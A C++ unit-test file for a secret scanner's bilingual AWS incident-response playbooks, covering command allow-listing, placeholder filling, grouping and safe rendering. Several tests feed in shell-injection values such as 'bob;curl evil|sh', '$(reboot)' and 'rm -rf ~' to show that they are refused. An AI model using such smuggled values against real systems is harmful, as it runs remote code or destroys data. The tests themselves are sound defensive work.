// Response playbooks: the built-in data loads in both languages, every rule's playbook exists,
// every command is real AWS CLI (tests/data/playbook/aws-cli-commands.txt), no placeholder stays
// unfilled when its value is known, and the loader, values, grouping and rendering behave.
#include "playbook/playbook.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <re2/re2.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <map>
#include <set>
#include <sstream>
#include <string>
#include <vector>

#include "builtin/builtin.h"
#include "playbook/doc.h"
#include "playbook/incident.h"
#include "playbook/render.h"
#include "playbook/values.h"

namespace ks::playbook {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

constexpr Lang kLangs[] = {Lang::kEn, Lang::kJa};
constexpr Format kFormats[] = {Format::kMarkdown, Format::kText};
constexpr char kKey[] = "AKIARZPUZDIKPFJONNBY";

const Catalogue& Builtin() {
  static const Catalogue* catalogue = [] {
    auto c = Catalogue::Builtin();
    EXPECT_TRUE(c.ok()) << c.error().message;
    return new Catalogue(c.ok() ? std::move(c).value() : Catalogue());
  }();
  return *catalogue;
}

// Every prose string of a playbook, for checks that apply to all of them.
std::vector<const Text*> AllTexts(const Playbook& pb) {
  std::vector<const Text*> texts = {&pb.title, &pb.summary};
  if (pb.escalate) texts.push_back(&pb.escalate->when);
  for (Phase p : kPhases) {
    for (const Step& s : pb.steps(p)) {
      texts.push_back(&s.action);
      texts.push_back(&s.why);
    }
  }
  return texts;
}

bool HasNonAscii(const std::string& s) {
  return std::any_of(s.begin(), s.end(),
                     [](char c) { return static_cast<unsigned char>(c) >= 0x80; });
}

// --- The built-in data ---------------------------------------------------------------------------

TEST(BuiltinPlaybooksTest, AllLoadInBothLanguages) {
  const Catalogue& c = Builtin();
  ASSERT_EQ(c.all().size(), BuiltinIds().size());
  for (const Playbook& pb : c.all()) {
    for (const Text* t : AllTexts(pb)) {
      EXPECT_FALSE(t->en.empty()) << pb.id;
      EXPECT_FALSE(t->ja.empty()) << pb.id;
      // The Japanese text is Japanese, not a copy of the English.
      EXPECT_TRUE(HasNonAscii(t->ja)) << pb.id << ": " << t->ja;
      EXPECT_NE(t->en, t->ja) << pb.id;
    }
    for (Phase p : kPhases) EXPECT_FALSE(pb.steps(p).empty()) << pb.id << " " << PhaseKey(p);
  }
}

TEST(BuiltinPlaybooksTest, EveryFileIsListedAndEveryListedIdHasAFile) {
  std::set<std::string> files, ids;
  for (const auto& entry :
       std::filesystem::directory_iterator(std::string(KS_SOURCE_DIR) + "/patterns/playbooks")) {
    if (entry.path().extension() == ".yaml") files.insert(entry.path().stem().string());
  }
  for (std::string_view id : BuiltinIds()) ids.emplace(id);
  EXPECT_EQ(files, ids);
}

TEST(BuiltinPlaybooksTest, EveryRulesPlaybookExists) {
  for (const Rule& rule : builtin::Rules()) {
    EXPECT_NE(Builtin().Find(rule.playbook), nullptr)
        << "rule " << rule.id << " names playbook " << rule.playbook;
  }
}

TEST(BuiltinPlaybooksTest, OthersEscalateToConsoleTakeover) {
  for (const Playbook& pb : Builtin().all()) {
    if (pb.id == kConsoleTakeover) continue;
    ASSERT_TRUE(pb.escalate) << pb.id;
    EXPECT_EQ(pb.escalate->to, kConsoleTakeover) << pb.id;
  }
}

TEST(BuiltinPlaybooksTest, TitlesAndSummariesAreOneLine) {
  for (const Playbook& pb : Builtin().all()) {
    for (Lang lang : kLangs) {
      EXPECT_EQ(pb.summary.In(lang).find('\n'), std::string::npos) << pb.id;
      EXPECT_EQ(pb.title.In(lang).find('\n'), std::string::npos) << pb.id;
    }
  }
}

// --- Commands are real AWS CLI -------------------------------------------------------------------

// "service operation" → the operation's options the playbooks may use.
std::map<std::string, std::set<std::string>> AllowedCommands() {
  std::ifstream in(std::string(KS_TESTDATA_DIR) + "/playbook/aws-cli-commands.txt");
  EXPECT_TRUE(in.good());
  std::map<std::string, std::set<std::string>> allowed;
  std::string line;
  while (std::getline(in, line)) {
    if (line.empty() || line[0] == '#') continue;
    std::istringstream words(line);
    std::string service, operation, option;
    words >> service >> operation;
    auto& options = allowed[service + " " + operation];
    while (words >> option) options.insert(option);
  }
  return allowed;
}

// Empty if `command` is an allowed AWS CLI call with allowed options, else what is wrong.
std::string CheckCommand(const std::string& command) {
  static const auto allowed = AllowedCommands();
  static const std::set<std::string> global = {"--region", "--query", "--output"};
  if (command.rfind("aws ", 0) != 0) return "does not start with 'aws '";
  std::istringstream words(command.substr(0, command.find('|')));
  std::string aws, service, operation, word;
  words >> aws >> service >> operation;
  const auto it = allowed.find(service + " " + operation);
  if (it == allowed.end()) return "unknown command aws " + service + " " + operation;
  while (words >> word) {
    if (word.rfind("--", 0) != 0) continue;
    const std::string option = word.substr(0, word.find('='));
    if (global.count(option) == 0 && it->second.count(option) == 0) {
      return "option " + option + " is not one of aws " + service + " " + operation + "'s";
    }
  }
  return "";
}

TEST(PlaybookCommandsTest, EveryCommandIsAnAllowedAwsCliCall) {
  size_t checked = 0;
  for (const Playbook& pb : Builtin().all()) {
    for (Phase p : kPhases) {
      for (const Step& s : pb.steps(p)) {
        for (const std::string& cmd : s.commands) {
          EXPECT_EQ(CheckCommand(cmd), "") << pb.id << ": " << cmd;
          ++checked;
        }
      }
    }
  }
  EXPECT_GT(checked, 50u);
}

TEST(PlaybookCommandsTest, CommandsQuotedInRenderedTextAreAllowedToo) {
  // The region loop and the hints for unknown values name AWS CLI commands of their own.
  // RE2 rather than std::regex: GCC 12 warns inside <regex> under the sanitizer build.
  const re2::RE2 quoted("`(aws [^`]*)`");
  const re2::RE2 loop(R"(\$\((aws [^)]*)\))");
  for (const Playbook& pb : Builtin().all()) {
    for (Lang lang : kLangs) {
      const std::string out = RenderPlaybook(Builtin(), pb, RenderOptions{lang, Format::kMarkdown});
      for (const re2::RE2* re : {&quoted, &loop}) {
        re2::StringPiece input(out);
        std::string command;
        while (re2::RE2::FindAndConsume(&input, *re, &command)) {
          EXPECT_EQ(CheckCommand(command), "") << pb.id << ": " << command;
        }
      }
    }
  }
}

TEST(PlaybookCommandsTest, TheAllowListRejectsMadeUpCommands) {
  EXPECT_THAT(CheckCommand("aws iam deactivate-access-key --access-key-id X"),
              HasSubstr("unknown command"));
  EXPECT_THAT(CheckCommand("aws iam update-access-key --key-id X"), HasSubstr("--key-id"));
  EXPECT_THAT(CheckCommand("iam update-access-key"), HasSubstr("aws "));
  EXPECT_EQ(CheckCommand("aws iam update-access-key --access-key-id X --status Inactive"), "");
}

// --- Placeholders --------------------------------------------------------------------------------

const re2::RE2 kMarker("<(KEY_ID|ACCOUNT|USER_NAME|ROLE_NAME|REGION)>");
const re2::RE2 kTemplate(R"(\{(key_id|account|user_name|role_name|region)\})");

Finding KeyIdFinding(const std::string& key = kKey) {
  Finding f;
  f.rule = "aws-access-key-id";
  f.playbook = "aws-access-key";
  f.fingerprint = "fp-" + key;
  f.key_id = key;
  f.account_id = "123456789012";
  f.path = "config/prod.env";
  f.line = 3;
  f.column = 19;
  return f;
}

IncidentList OneIncident(const std::string& playbook, const Values& values) {
  IncidentList list;
  Incident& incident = list.incidents.emplace_back();
  incident.playbook = playbook;
  incident.values = values;
  incident.findings = {KeyIdFinding()};
  return list;
}

Values AllKnown() {
  Values v;
  v.key_id = kKey;
  v.account = "123456789012";
  v.user_name = "deploy-bot";
  v.role_name = "ci-deploy";
  v.region = "eu-west-1";
  return v;
}

TEST(PlaybookPlaceholdersTest, NothingIsLeftUnfilledWhenEveryValueIsKnown) {
  for (const Playbook& pb : Builtin().all()) {
    for (Lang lang : kLangs) {
      for (Format format : kFormats) {
        const std::string out =
            RenderIncidents(Builtin(), OneIncident(pb.id, AllKnown()), RenderOptions{lang, format});
        EXPECT_FALSE(re2::RE2::PartialMatch(out, kMarker)) << pb.id;
        EXPECT_FALSE(re2::RE2::PartialMatch(out, kTemplate)) << pb.id;
        // A step for the finding's region runs there alone when the region is known.
        for (Phase p : kPhases) {
          for (const Step& s : pb.steps(p)) {
            if (s.loop != RegionLoop::kWhenUnknown) continue;
            std::set<Placeholder> missing;
            for (const std::string& cmd : s.commands) {
              EXPECT_THAT(out, HasSubstr(Fill(cmd, AllKnown(), &missing))) << pb.id << ": " << cmd;
            }
          }
        }
        EXPECT_THAT(out, HasSubstr(kKey));
      }
    }
  }
}

TEST(PlaybookPlaceholdersTest, OnlyTheUnknownValueIsMarkedAndExplained) {
  Values v = AllKnown();
  v.user_name.reset();
  const std::string out = RenderIncidents(Builtin(), OneIncident("aws-access-key", v), {});
  EXPECT_THAT(out, HasSubstr("--user-name <USER_NAME>"));
  EXPECT_THAT(out, HasSubstr("## Fill in before running"));
  EXPECT_THAT(out, HasSubstr("- `<USER_NAME>`: the IAM user that owns the key: `aws iam "
                             "get-access-key-last-used --access-key-id AKIARZPUZDIKPFJONNBY`"));
  EXPECT_THAT(out, Not(HasSubstr("<REGION>")));
  EXPECT_THAT(out, Not(HasSubstr("<ACCOUNT>")));
  EXPECT_THAT(out, Not(HasSubstr("<KEY_ID>")));
}

TEST(PlaybookPlaceholdersTest, AnUnknownRegionMeansEveryRegionWhereTheStepAllowsIt) {
  Values v = AllKnown();
  v.region.reset();
  const std::string out = RenderIncidents(Builtin(), OneIncident("ses-smtp-credentials", v), {});
  EXPECT_THAT(out, HasSubstr("  aws ses get-send-statistics --region \"$region\""));
  // Pausing every region blindly would stop legitimate mail: that one needs the region.
  EXPECT_THAT(out, HasSubstr("--no-sending-enabled --region <REGION>"));
  EXPECT_THAT(out, HasSubstr("- `<REGION>`: the SES region"));
}

TEST(PlaybookPlaceholdersTest, AGenericPlaybookMarksEverythingAndExplainsHowToFindIt) {
  const Playbook* pb = Builtin().Find("aws-access-key");
  ASSERT_NE(pb, nullptr);
  const std::string out = RenderPlaybook(Builtin(), *pb, {});
  EXPECT_THAT(out, HasSubstr("--access-key-id <KEY_ID> --status Inactive --user-name <USER_NAME>"));
  for (const char* marker : {"<KEY_ID>", "<ACCOUNT>", "<USER_NAME>", "<REGION>"}) {
    EXPECT_THAT(out, HasSubstr(std::string("- `") + marker + "`: ")) << marker;
  }
  // Prose markers are code in Markdown, where a bare <ACCOUNT> would be an HTML tag.
  EXPECT_THAT(out, HasSubstr("account `<ACCOUNT>`"));
}

TEST(PlaybookPlaceholdersTest, StepsForAnotherIdentityAreLeftOut) {
  Values role = AllKnown();
  role.identity = Identity::kRole;
  const std::string out =
      RenderIncidents(Builtin(), OneIncident("aws-temporary-credentials", role), {});
  EXPECT_THAT(out, HasSubstr("aws iam put-role-policy --role-name ci-deploy"));
  EXPECT_THAT(out, Not(HasSubstr("put-user-policy")));
  Values unknown = AllKnown();
  const std::string both =
      RenderIncidents(Builtin(), OneIncident("aws-temporary-credentials", unknown), {});
  EXPECT_THAT(both, HasSubstr("put-role-policy"));
  EXPECT_THAT(both, HasSubstr("put-user-policy"));
}

// --- Values --------------------------------------------------------------------------------------

TEST(PlaybookValuesTest, FillReplacesKnownAndMarksUnknown) {
  Values v;
  v.key_id = kKey;
  std::set<Placeholder> missing;
  EXPECT_EQ(Fill("--access-key-id {key_id} --user-name {user_name}", v, &missing),
            "--access-key-id AKIARZPUZDIKPFJONNBY --user-name <USER_NAME>");
  EXPECT_EQ(missing, std::set<Placeholder>{Placeholder::kUserName});
}

TEST(PlaybookValuesTest, BracesThatAreNotPlaceholdersStay) {
  const std::string policy = R"('{"Effect":"Deny","Condition":{"DateLessThan":{}}}' {x1} {A})";
  std::set<Placeholder> missing;
  EXPECT_EQ(Fill(policy, Values{}, &missing), policy);
  EXPECT_TRUE(missing.empty());
  EXPECT_EQ(PlaceholdersIn("a {key_id} {not_known} {x1} {}"),
            (std::vector<std::string>{"key_id", "not_known"}));
}

TEST(PlaybookValuesTest, ParsesArns) {
  auto user = ParseArn("arn:aws:iam::123456789012:user/division/ops/deploy-bot");
  ASSERT_TRUE(user);
  EXPECT_EQ(user->identity, Identity::kUser);
  EXPECT_EQ(user->name, "deploy-bot");
  EXPECT_EQ(user->account, "123456789012");
  auto root = ParseArn("arn:aws:iam::123456789012:root");
  ASSERT_TRUE(root);
  EXPECT_EQ(root->identity, Identity::kRoot);
  auto role = ParseArn("arn:aws-cn:sts::123456789012:assumed-role/ci-deploy/session-1");
  ASSERT_TRUE(role);
  EXPECT_EQ(role->identity, Identity::kRole);
  EXPECT_EQ(role->name, "ci-deploy");
  EXPECT_FALSE(ParseArn("arn:aws:iam::12345:user/x"));
  EXPECT_FALSE(ParseArn("arn:aws:sts::123456789012:federated-user/bob"));
  EXPECT_FALSE(ParseArn("not an arn"));
}

TEST(PlaybookValuesTest, ValuesThatAShellWouldInterpretAreNotUsed) {
  Values v;
  v.Set(Placeholder::kUserName, "bob;curl evil|sh");
  v.Set(Placeholder::kRoleName, "--role-name");
  v.Set(Placeholder::kAccount, "12345678901$");
  v.Set(Placeholder::kRegion, "us-east-1 && rm");
  v.Set(Placeholder::kKeyId, "AKIA$(reboot)XXXXXXX");
  for (Placeholder p : kPlaceholders) EXPECT_FALSE(v.Get(p)) << PlaceholderName(p);
  v.Set(Placeholder::kUserName, "ses-smtp-user.20240102-030405");
  v.Set(Placeholder::kRegion, "us-gov-west-1");
  v.Set(Placeholder::kRegion, "ap-southeast-4");
  EXPECT_EQ(v.user_name, "ses-smtp-user.20240102-030405");
  EXPECT_EQ(v.region, "ap-southeast-4");
}

TEST(PlaybookValuesTest, AHostileArnInAReportFillsNothing) {
  Finding f = KeyIdFinding();
  const verify::Verdict verdict{verify::Status::kValid, "", "123456789012",
                                "arn:aws:iam::123456789012:user/x$(id)", "AIDA"};
  const Values v = ValuesFor({f}, verdict);
  EXPECT_EQ(v.identity, Identity::kUser);
  EXPECT_FALSE(v.user_name);
}

TEST(PlaybookValuesTest, StsWinsOverTheOfflineAccount) {
  Finding f = KeyIdFinding();
  f.account_id = "111111111111";
  f.region = "eu-west-1";
  const verify::Verdict verdict{verify::Status::kValid, "", "222222222222",
                                "arn:aws:iam::222222222222:user/deploy-bot", "AIDA"};
  const Values v = ValuesFor({f}, verdict);
  EXPECT_EQ(v.account, "222222222222");
  EXPECT_EQ(v.user_name, "deploy-bot");
  EXPECT_EQ(v.region, "eu-west-1");
  EXPECT_EQ(v.key_id, kKey);
}

// --- Grouping ------------------------------------------------------------------------------------

Finding WithVerdict(Finding f, verify::Status status, std::string arn = "",
                    std::string reason = "") {
  f.verification = verify::Verdict{status, std::move(reason), "123456789012", std::move(arn), ""};
  return f;
}

TEST(PlaybookIncidentsTest, OneIncidentPerKeyIncludingDerivedSmtpPasswords) {
  Finding id = KeyIdFinding();
  Finding secret = KeyIdFinding();
  secret.rule = "aws-secret-access-key";
  secret.fingerprint = "fp-secret";
  Finding smtp;
  smtp.rule = "aws-ses-smtp-password";
  smtp.playbook = "ses-smtp-credentials";
  smtp.fingerprint = "fp-smtp";
  smtp.derived_from_key_id = kKey;
  smtp.region = "eu-west-1";
  smtp.path = "mail.env";
  const IncidentList list = GroupIncidents({id, smtp, secret});
  ASSERT_EQ(list.incidents.size(), 1u);
  EXPECT_EQ(list.incidents[0].findings.size(), 3u);
  EXPECT_EQ(list.incidents[0].playbook, kSesSmtp);
  EXPECT_EQ(list.incidents[0].values.region, "eu-west-1");
}

TEST(PlaybookIncidentsTest, FindingsWithoutAKeyGoByFingerprint) {
  Finding a;
  a.rule = "private-key";
  a.playbook = "private-key";
  a.fingerprint = "fp-a";
  Finding b = a;
  b.fingerprint = "fp-b";
  Finding a_again = a;
  a_again.path = "elsewhere";
  const IncidentList list = GroupIncidents({a, b, a_again});
  ASSERT_EQ(list.incidents.size(), 2u);
  EXPECT_EQ(list.incidents[0].findings.size(), 2u);
  EXPECT_EQ(list.incidents[0].playbook, kPrivateKey);
}

TEST(PlaybookIncidentsTest, LiveKeysFirstDeadKeysLast) {
  const Finding dead = WithVerdict(KeyIdFinding("AKIAAAAAAAAAAAAAAAAA"), verify::Status::kInvalid,
                                   "", "unknown_key");
  const Finding unchecked = KeyIdFinding("AKIABBBBBBBBBBBBBBBB");
  const Finding live = WithVerdict(KeyIdFinding("AKIACCCCCCCCCCCCCCCC"), verify::Status::kValid,
                                   "arn:aws:iam::123456789012:user/app");
  const IncidentList list = GroupIncidents({dead, unchecked, live});
  ASSERT_EQ(list.incidents.size(), 3u);
  EXPECT_EQ(list.incidents[0].values.key_id, "AKIACCCCCCCCCCCCCCCC");
  EXPECT_EQ(list.incidents[1].values.key_id, "AKIABBBBBBBBBBBBBBBB");
  EXPECT_EQ(list.incidents[2].values.key_id, "AKIAAAAAAAAAAAAAAAAA");
}

TEST(PlaybookIncidentsTest, TheKeysBestVerdictCounts) {
  const Finding id = KeyIdFinding();
  const Finding live =
      WithVerdict(KeyIdFinding(), verify::Status::kValid, "arn:aws:iam::123456789012:user/app");
  const IncidentList list = GroupIncidents({id, live});
  ASSERT_EQ(list.incidents.size(), 1u);
  EXPECT_EQ(list.incidents[0].verdict.status, verify::Status::kValid);
  EXPECT_EQ(list.incidents[0].values.user_name, "app");
}

TEST(PlaybookIncidentsTest, ExamplesAndCanariesAreLeftOutAndCounted) {
  Finding example = KeyIdFinding("AKIAIOSFODNN7EXAMPLE");
  example.example = true;
  Finding canary = KeyIdFinding("AKIADDDDDDDDDDDDDDDD");
  canary.canary = true;
  const IncidentList list = GroupIncidents({example, canary, KeyIdFinding()});
  EXPECT_EQ(list.incidents.size(), 1u);
  EXPECT_EQ(list.examples, 1u);
  EXPECT_EQ(list.canaries, 1u);
}

TEST(PlaybookIncidentsTest, ChoosesThePlaybookThatFits) {
  const auto choose = [](const Finding& f) { return GroupIncidents({f}).incidents.at(0).playbook; };
  EXPECT_EQ(choose(KeyIdFinding()), kAccessKey);
  EXPECT_EQ(
      choose(WithVerdict(KeyIdFinding(), verify::Status::kValid, "arn:aws:iam::123456789012:root")),
      kRootKey);
  EXPECT_EQ(choose(KeyIdFinding("ASIATCH6YDSYWITJ4DJX")), kTemporaryCredentials);
  EXPECT_EQ(choose(WithVerdict(KeyIdFinding(), verify::Status::kValid,
                               "arn:aws:iam::123456789012:user/ses-smtp-user.20240102-030405")),
            kSesSmtp);
  Finding custom = KeyIdFinding();
  custom.playbook = "our-own";
  EXPECT_EQ(choose(custom), "our-own");
}

TEST(PlaybookIncidentsTest, ReadsVerdictsFromTheReport) {
  const std::string report = R"({"findings": [
    {"rule": "aws-access-key-id", "fingerprint": "f1", "path": "a", "key_id": "AKIARZPUZDIKPFJONNBY",
     "verification": {"status": "valid", "account": "123456789012",
                      "arn": "arn:aws:iam::123456789012:root", "user_id": "123456789012"}},
    {"rule": "aws-access-key-id", "fingerprint": "f2", "path": "b",
     "verification": {"status": "invalid", "reason": "unknown_key"}},
    {"rule": "aws-access-key-id", "fingerprint": "f3", "path": "c"}]})";
  auto findings = ReadReport(report);
  ASSERT_TRUE(findings.ok()) << findings.error().message;
  ASSERT_EQ(findings->size(), 3u);
  EXPECT_EQ((*findings)[0].verification.status, verify::Status::kValid);
  EXPECT_EQ((*findings)[0].verification.arn, "arn:aws:iam::123456789012:root");
  EXPECT_EQ((*findings)[1].verification.status, verify::Status::kInvalid);
  EXPECT_EQ((*findings)[1].verification.reason, "unknown_key");
  EXPECT_EQ((*findings)[2].verification.status, verify::Status::kNotChecked);
  EXPECT_FALSE(ReadReport("{}").ok());
  EXPECT_FALSE(ReadReport("not json").ok());
}

// --- Rendering -----------------------------------------------------------------------------------

TEST(PlaybookRenderTest, SaysWhereTheKeyWasFoundAndThatHistoryKeepsIt) {
  Finding f = WithVerdict(KeyIdFinding(), verify::Status::kValid,
                          "arn:aws:iam::123456789012:user/deploy-bot");
  f.commit = "3f1c2a9d8e7b6a5c4d3e2f1a0b9c8d7e6f5a4b3c";
  f.author = "Dana Developer";
  f.email = "dana@example.com";
  f.date = "2024-03-14T09:26:53Z";
  const std::string md = RenderIncidents(Builtin(), GroupIncidents({f}), {});
  EXPECT_THAT(md, HasSubstr("## Incident 1: key `AKIARZPUZDIKPFJONNBY` (LIVE)"));
  EXPECT_THAT(md, HasSubstr("- `config/prod.env:3:19` (`aws-access-key-id`), commit `3f1c2a9d8e7b` "
                            "by `Dana Developer <dana@example.com>`, `2024-03-14T09:26:53Z`"));
  EXPECT_THAT(md, HasSubstr("> Deleting the file or the line does not make the key safe"));
  EXPECT_THAT(md, HasSubstr("- ARN: `arn:aws:iam::123456789012:user/deploy-bot`"));
  const std::string ja =
      RenderIncidents(Builtin(), GroupIncidents({f}), RenderOptions{Lang::kJa, Format::kText});
  EXPECT_THAT(ja, HasSubstr("ファイルや該当行を削除しても、キーは安全になりません。"));
  EXPECT_THAT(ja, HasSubstr("作成者 Dana Developer <dana@example.com>"));
}

TEST(PlaybookRenderTest, EveryVerdictHasAStatusLine) {
  using S = verify::Status;
  const std::vector<std::pair<S, std::string>> verdicts = {
      {S::kNotChecked, ""},          {S::kValid, ""},   {S::kInvalid, "unknown_key"},
      {S::kInvalid, "wrong_secret"}, {S::kExpired, ""}, {S::kUnknown, "timeout"},
      {S::kSkipped, "canary"}};
  for (Lang lang : kLangs) {
    std::set<std::string> lines;
    for (const auto& [status, reason] : verdicts) {
      const Finding f =
          WithVerdict(KeyIdFinding(), status, "arn:aws:iam::123456789012:user/a", reason);
      const std::string out = RenderIncidents(Builtin(), GroupIncidents({f}),
                                              RenderOptions{lang, Format::kText, "r.json"});
      const size_t at = out.find(lang == Lang::kEn ? "  - Status: " : "  - 状態: ");
      ASSERT_NE(at, std::string::npos) << out;
      lines.insert(out.substr(at, out.find('\n', at) - at));
    }
    EXPECT_EQ(lines.size(), verdicts.size());  // each says something of its own
  }
}

TEST(PlaybookRenderTest, UntrustedReportTextCannotBreakOutOfCode) {
  Finding f = KeyIdFinding();
  f.path = "evil`](http://x) <img>\x1b[2J.env";
  const std::string md = RenderIncidents(Builtin(), GroupIncidents({f}), {});
  EXPECT_THAT(md, HasSubstr("``evil`](http://x) <img>\\x1b[2J.env:3:19``"));
  EXPECT_EQ(md.find('\x1b'), std::string::npos);
  const std::string text =
      RenderIncidents(Builtin(), GroupIncidents({f}), RenderOptions{Lang::kEn, Format::kText});
  EXPECT_EQ(text.find('\x1b'), std::string::npos);
}

TEST(PlaybookRenderTest, AHostileReportPathIsNotPrintedAsACommand) {
  const std::string out =
      RenderIncidents(Builtin(), GroupIncidents({KeyIdFinding()}),
                      RenderOptions{Lang::kEn, Format::kText, "r.json; rm -rf ~"});
  EXPECT_THAT(out, HasSubstr("keysweep verify REPORT.json"));
  EXPECT_THAT(out, Not(HasSubstr("rm -rf")));
}

TEST(PlaybookRenderTest, AnUnknownPlaybookStillSaysWhereAndWhat) {
  Finding f = KeyIdFinding();
  f.playbook = "our-own";
  const std::string out = RenderIncidents(Builtin(), GroupIncidents({f}), {});
  EXPECT_THAT(out, HasSubstr("There is no built-in playbook named `our-own`"));
  EXPECT_THAT(out, HasSubstr("`config/prod.env:3:19`"));
}

TEST(PlaybookRenderTest, NoFindingsNothingToDo) {
  EXPECT_THAT(RenderIncidents(Builtin(), IncidentList{}, {}), HasSubstr("nothing to respond to"));
}

TEST(PlaybookRenderTest, ListsEveryPlaybookWithItsSummary) {
  const std::string list = RenderList(Builtin(), Lang::kEn);
  for (const Playbook& pb : Builtin().all()) {
    EXPECT_THAT(list, HasSubstr(pb.id + "  ")) << pb.id;
    EXPECT_THAT(list, HasSubstr(pb.summary.en)) << pb.id;
  }
}

TEST(PlaybookDocTest, TextHeadingsAreUnderlinedToTheirDisplayWidth) {
  Doc doc(Format::kText);
  doc.Heading(1, "インシデント対応");
  EXPECT_EQ(doc.str(), "インシデント対応\n================\n");
  EXPECT_EQ(DisplayWidth("abc"), 3u);
  EXPECT_EQ(DisplayWidth("キー ID"), 7u);
}

TEST(PlaybookDocTest, MarkdownCodeSpansOutlastTheBackticksInside) {
  const Doc doc(Format::kMarkdown);
  EXPECT_EQ(doc.Code("plain"), "`plain`");
  EXPECT_EQ(doc.Code("a`b"), "``a`b``");
  EXPECT_EQ(doc.Code("`x`"), "`` `x` ``");
}

TEST(PlaybookLangTest, FollowsThePosixLocaleVariables) {
  EXPECT_EQ(LangFromLocale(nullptr, nullptr, "ja_JP.UTF-8"), Lang::kJa);
  EXPECT_EQ(LangFromLocale("C", nullptr, "ja_JP.UTF-8"), Lang::kEn);  // LC_ALL wins
  EXPECT_EQ(LangFromLocale("", "ja_JP.UTF-8", "en_US.UTF-8"), Lang::kJa);
  EXPECT_EQ(LangFromLocale(nullptr, nullptr, nullptr), Lang::kEn);
  EXPECT_EQ(LangFromLocale(nullptr, nullptr, "ja"), Lang::kJa);
  EXPECT_EQ(ParseLang("ja"), Lang::kJa);
  EXPECT_FALSE(ParseLang("jp"));
}

// --- The loader ----------------------------------------------------------------------------------

// A valid playbook; tests break one thing in it.
constexpr char kMinimal[] = R"(id: demo
title: {en: Demo, ja: デモ}
summary: {en: A demo., ja: デモです。}
contain:
  - do:
      en: Deactivate {key_id}
      ja: "{key_id} を無効化する"
    why: {en: Because., ja: 理由。}
    run:
      - aws iam update-access-key --access-key-id {key_id} --status Inactive
investigate:
  - do: {en: Look, ja: 見る}
    why: {en: Because., ja: 理由。}
    regions: all
    run:
      - aws ecs list-clusters --region "$region"
recover:
  - do: {en: Recover, ja: 復旧する}
    why: {en: Because., ja: 理由。}
harden:
  - do: {en: Harden, ja: 強化する}
    why: {en: Because., ja: 理由。}
    regions: finding-or-all
    run:
      - aws sesv2 get-account --region {region}
)";

Result<Catalogue> LoadOne(const std::string& text, const std::string& name = "demo.yaml") {
  return Catalogue::Load({PlaybookSource{name, text}});
}

std::string Replace(std::string text, const std::string& from, const std::string& to) {
  const size_t at = text.find(from);
  EXPECT_NE(at, std::string::npos) << from;
  return text.replace(at, from.size(), to);
}

TEST(PlaybookLoaderTest, LoadsAValidPlaybook) {
  auto c = LoadOne(kMinimal);
  ASSERT_TRUE(c.ok()) << c.error().message;
  const Playbook* pb = c->Find("demo");
  ASSERT_NE(pb, nullptr);
  EXPECT_EQ(pb->steps(Phase::kInvestigate)[0].loop, RegionLoop::kAlways);
  EXPECT_EQ(pb->steps(Phase::kHarden)[0].loop, RegionLoop::kWhenUnknown);
  EXPECT_EQ(pb->steps(Phase::kContain)[0].action.ja, "{key_id} を無効化する");
}

TEST(PlaybookLoaderTest, UnknownKeysAreErrorsWithFileAndLine) {
  auto c = LoadOne(Replace(kMinimal, "    regions: all\n", "    regions: all\n    when: now\n"));
  ASSERT_FALSE(c.ok());
  EXPECT_THAT(c.error().message, HasSubstr("demo.yaml:15: unknown step key 'when'"));
  auto top = LoadOne(std::string(kMinimal) + "extra: 1\n");
  ASSERT_FALSE(top.ok());
  EXPECT_THAT(top.error().message, HasSubstr("demo.yaml:26: unknown playbook key 'extra'"));
}

TEST(PlaybookLoaderTest, BothLanguagesAreRequired) {
  auto c = LoadOne(
      Replace(kMinimal, "summary: {en: A demo., ja: デモです。}", "summary: {en: A demo.}"));
  ASSERT_FALSE(c.ok());
  EXPECT_THAT(c.error().message, HasSubstr("demo.yaml:3: missing required field 'ja'"));
}

TEST(PlaybookLoaderTest, CommandsMustBeAwsCliWithKnownPlaceholders) {
  auto shell = LoadOne(Replace(kMinimal, "- aws iam update-access-key", "- curl x; aws iam x"));
  ASSERT_FALSE(shell.ok());
  EXPECT_THAT(shell.error().message, HasSubstr("demo.yaml:10: command 'curl x"));
  EXPECT_THAT(shell.error().message, HasSubstr("must be one line starting with 'aws '"));
  auto placeholder = LoadOne(Replace(kMinimal, "--status Inactive", "--user-name {username}"));
  ASSERT_FALSE(placeholder.ok());
  EXPECT_THAT(placeholder.error().message, HasSubstr("unknown placeholder {username}"));
}

TEST(PlaybookLoaderTest, RegionLoopsAndRegionPlaceholdersMustAgree) {
  auto literal = LoadOne(Replace(kMinimal, "--region \"$region\"", "--region {region}"));
  ASSERT_FALSE(literal.ok());
  EXPECT_THAT(literal.error().message, HasSubstr("with 'regions: all'"));
  auto variable = LoadOne(
      Replace(kMinimal, "get-account --region {region}", "get-account --region \"$region\""));
  ASSERT_FALSE(variable.ok());
  EXPECT_THAT(variable.error().message, HasSubstr("with 'regions: finding-or-all'"));
  auto stray = LoadOne(Replace(kMinimal, "--status Inactive", "--region \"$region\""));
  ASSERT_FALSE(stray.ok());
  EXPECT_THAT(stray.error().message, HasSubstr("the step has no 'regions'"));
}

TEST(PlaybookLoaderTest, SummariesHoldNoPlaceholders) {
  auto c = LoadOne(Replace(kMinimal, "summary: {en: A demo., ja: デモです。}",
                           "summary:\n  en: Key {key_id}.\n  ja: デモです。"));
  ASSERT_FALSE(c.ok());
  EXPECT_THAT(c.error().message, HasSubstr("'summary' cannot hold placeholders"));
}

TEST(PlaybookLoaderTest, CrossFileChecks) {
  auto name = LoadOne(kMinimal, "playbooks/other.yaml");
  ASSERT_FALSE(name.ok());
  EXPECT_THAT(name.error().message, HasSubstr("id 'demo' does not match the file name"));
  auto escalate =
      LoadOne(std::string(kMinimal) + "escalate: {to: nowhere, when: {en: x, ja: y}}\n");
  ASSERT_FALSE(escalate.ok());
  EXPECT_THAT(escalate.error().message, HasSubstr("'escalate' names unknown playbook 'nowhere'"));
}

TEST(PlaybookLoaderTest, RepeatedKeysAndBadYamlAreReported) {
  auto twice = LoadOne(std::string(kMinimal) + "id: demo\n");
  ASSERT_FALSE(twice.ok());
  EXPECT_THAT(twice.error().message, HasSubstr("playbook key 'id' appears twice"));
  auto bad = LoadOne("id: [unclosed\n");
  ASSERT_FALSE(bad.ok());
  EXPECT_THAT(bad.error().message, HasSubstr("demo.yaml:"));
  EXPECT_THAT(bad.error().message, HasSubstr("invalid YAML"));
}

}  // namespace
}  // namespace ks::playbook
